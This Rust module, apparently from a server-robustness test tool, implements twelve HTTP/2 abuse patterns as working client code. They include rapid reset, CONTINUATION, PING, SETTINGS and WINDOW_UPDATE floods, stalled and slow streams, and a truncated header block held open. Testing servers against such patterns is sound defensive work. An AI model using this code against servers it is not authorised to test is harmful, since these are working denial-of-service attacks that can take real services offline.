//! Misbehaviour over HTTP/2.

mod frames;

use std::{io, net::TcpStream, thread};

use boring::ssl::SslStream;

use self::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, header_block, preface, request,
};
use super::{
    client::{Client, PAUSE},
    kind::{Misbehaviour, STREAMS},
};
use crate::fair::tls::{receive, tls};

/// All kinds, in the order of the table.
pub(super) const KINDS: &[Misbehaviour] = &[
    Misbehaviour::new("HTTP/2, 100 streams with window 0", 16, stalled_streams),
    Misbehaviour::new("HTTP/2, 100 slow downloads", 4, slow_streams),
    Misbehaviour::new("HTTP/2, 100 slow uploads", 4, slow_upload_streams),
    Misbehaviour::new("HTTP/2, reset after each request", 16, rapid_reset),
    Misbehaviour::new("HTTP/2, PING flood", 16, ping_flood),
    Misbehaviour::new("HTTP/2, SETTINGS flood", 16, settings_flood),
    Misbehaviour::new("HTTP/2, empty DATA frames", 16, empty_data),
    Misbehaviour::new("HTTP/2, DATA frames of one byte", 16, tiny_data),
    Misbehaviour::new("HTTP/2, WINDOW_UPDATE flood", 16, window_flood),
    Misbehaviour::new("HTTP/2, PRIORITY flood", 16, priority_flood),
    Misbehaviour::new("HTTP/2, endless CONTINUATION", 16, continuation_flood),
    Misbehaviour::new("HTTP/2, half a header block", 200, half_header_block),
];

fn stalled_streams(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 0)?;
    open_streams(client, &mut stream, "GET", "/large")?;
    client.hold(stream)
}

fn slow_streams(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    open_streams(client, &mut stream, "GET", "/large")?;
    while !client.is_over() {
        receive(&mut stream, &mut [0; 2048])?;
        thread::sleep(PAUSE);
    }
    Ok(())
}

/// Sends a kilobyte on each of all streams in turn.
fn slow_upload_streams(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    open_streams(client, &mut stream, "POST", "/")?;
    let mut number = 0;
    while !client.is_over() {
        number = (number + 1) % STREAMS;
        client.send(&mut stream, &frame(DATA, 0, id(number), &[b'x'; 1024]))?;
        receive(&mut stream, &mut [0; 4096])?;
    }
    Ok(())
}

fn rapid_reset(client: &Client<'_>) -> io::Result<()> {
    let stream = connect(client, 1 << 20)?;
    let mut number = 0;
    client.flood(stream, || {
        number += 1;
        let id = id(number - 1);
        // The error code CANCEL.
        [request(id, "GET", "/small", END_STREAM), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    })
}

fn ping_flood(client: &Client<'_>) -> io::Result<()> {
    client.flood(connect(client, 1 << 20)?, || frame(PING, 0, 0, &[0; 8]).repeat(50))
}

fn settings_flood(client: &Client<'_>) -> io::Result<()> {
    client.flood(connect(client, 1 << 20)?, || frame(SETTINGS, 0, 0, &[]).repeat(50))
}

fn empty_data(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    client.send(&mut stream, &request(1, "POST", "/", 0))?;
    client.flood(stream, || frame(DATA, 0, 1, &[]).repeat(50))
}

fn tiny_data(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    client.send(&mut stream, &request(1, "POST", "/", 0))?;
    client.flood(stream, || frame(DATA, 0, 1, b"x").repeat(50))
}

fn window_flood(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 0)?;
    client.send(&mut stream, &request(1, "GET", "/large", END_STREAM))?;
    client.flood(stream, || frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]).repeat(50))
}

fn priority_flood(client: &Client<'_>) -> io::Result<()> {
    client.flood(connect(client, 1 << 20)?, || frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]).repeat(50))
}

fn continuation_flood(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    client.send(&mut stream, &frame(HEADERS, END_STREAM, 1, &header_block("GET", "/small")))?;
    // A literal field without indexing.
    let mut field = vec![0, 1, b'x', 100];
    field.extend([b'y'; 100]);
    client.flood(stream, || frame(CONTINUATION, 0, 1, &field.repeat(100)))
}

fn half_header_block(client: &Client<'_>) -> io::Result<()> {
    let mut stream = connect(client, 1 << 20)?;
    let whole = frame(HEADERS, END_HEADERS, 1, &header_block("GET", "/small"));
    client.send(&mut stream, &whole[..whole.len() - 4])?;
    client.hold(stream)
}

fn open_streams(
    client: &Client<'_>,
    stream: &mut SslStream<TcpStream>,
    method: &str,
    path: &str,
) -> io::Result<()> {
    let flags = if method == "GET" { END_STREAM } else { 0 };
    let all: Vec<u8> = (0..STREAMS).flat_map(|number| request(id(number), method, path, flags)).collect();
    client.send(stream, &all)
}

/// Returns the identifier of the client's stream with this number.
fn id(number: u32) -> u32 {
    2 * number + 1
}

/// Opens a connection with this initial window of streams.
fn connect(client: &Client<'_>, window: u32) -> io::Result<SslStream<TcpStream>> {
    let mut stream = tls(client.tcp()?, "h2")?;
    client.send(&mut stream, &preface(window))?;
    Ok(stream)
}
